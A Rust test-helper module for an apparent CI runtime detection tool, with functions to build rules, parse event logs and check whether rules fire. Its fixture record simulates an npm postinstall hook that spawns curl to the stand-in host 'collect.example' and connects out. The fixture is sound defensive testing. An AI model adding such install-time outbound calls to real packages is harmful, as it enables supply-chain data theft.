use runward_detect::{Finding, Observer as _};
use runward_event::Event;
use runward_rules::Rules;
use runward_tree::Tree;

pub(crate) fn rules(text: &str) -> Rules {
    Rules::read(text).unwrap_or_else(|errors| {
        let errors: Vec<String> = errors.iter().map(ToString::to_string).collect();
        panic!("{}\n{text}", errors.join("\n"))
    })
}

/// One rule for events of `kind`, with nothing else but its condition.
pub(crate) fn rule(kind: &str, when: &str) -> String {
    let when = when.replace('\n', "\n      ");
    format!(
        "rules:\n  - id: a-rule\n    title: A rule\n    severity: low\n    on: {kind}\n    when: |\n      {when}\n"
    )
}

pub(crate) fn events(record: &str) -> Vec<Event> {
    record
        .lines()
        .map(|line| {
            runward_event::parse_line(line).unwrap_or_else(|error| panic!("{line}: {error}"))
        })
        .collect()
}

/// What rules find in a record, and what they note.
pub(crate) fn run(rules: &mut Rules, record: &str) -> (Vec<Finding>, Vec<String>) {
    let mut tree = Tree::default();
    let mut findings = Vec::new();
    for event in events(record) {
        tree.apply(&event);
        rules.observe(&event, &tree, &mut findings);
    }
    (findings, rules.notes())
}

/// Whether a condition holds for the last event of [`RECORD`].
pub(crate) fn holds(kind: &str, when: &str) -> bool {
    let (findings, notes) = run(&mut rules(&rule(kind, when)), RECORD);
    assert_eq!(notes, Vec::<String>::new(), "{when}");
    !findings.is_empty()
}

/// make → node (postinstall of a package, in a step) → sh → curl, which connects.
pub(crate) const RECORD: &str = r#"{"seq":1,"time":"2026-08-01T09:00:01.000000000Z","kind":"job_start","format":1,"runward":"0.1.0","identity":{"provider":"github","project":"group/app","branch":"main","pipeline":".github/workflows/ci.yml","job":"build"},"context":{"fork":false},"args":["make"],"cwd":"/builds/app","workspace":"/builds/app","tracked_files":6,"files_watched":true,"requested_mode":"audit","effective_mode":"audit","tier":"A","kernel":"6.1.0"}
{"seq":2,"time":"2026-08-01T09:00:02.000000000Z","kind":"process_exec","process":1,"pid":101,"ppid":100,"exe":"/usr/bin/make","path":"/usr/bin/make","args":["make"],"cwd":"/builds/app","uid":0,"gid":0,"env":{"GITHUB_ACTION":"__run_2"}}
{"seq":3,"time":"2026-08-01T09:00:03.000000000Z","kind":"process_fork","process":2,"pid":102,"parent":1,"ppid":101}
{"seq":4,"time":"2026-08-01T09:00:04.000000000Z","kind":"process_exec","process":2,"pid":102,"ppid":101,"exe":"/usr/bin/node","path":"/usr/bin/node","args":["node","install.js"],"cwd":"/builds/app/node_modules/left-example","uid":0,"gid":0,"parent":1,"env":{"npm_package_name":"left-example","npm_package_version":"1.2.3","npm_lifecycle_event":"postinstall"}}
{"seq":5,"time":"2026-08-01T09:00:05.000000000Z","kind":"process_fork","process":3,"pid":103,"parent":2,"ppid":102}
{"seq":6,"time":"2026-08-01T09:00:06.000000000Z","kind":"process_exec","process":3,"pid":103,"ppid":102,"exe":"/usr/bin/curl","path":"/usr/bin/curl","args":["curl","-sf","https://collect.example/x"],"cwd":"/builds/app","uid":0,"gid":0,"parent":2}
{"seq":7,"time":"2026-08-01T09:00:07.000000000Z","kind":"connect","connection":1,"process":3,"pid":103,"protocol":"tcp","ip":"198.51.100.7","port":443,"status":"allowed","name":"collect.example"}
"#;
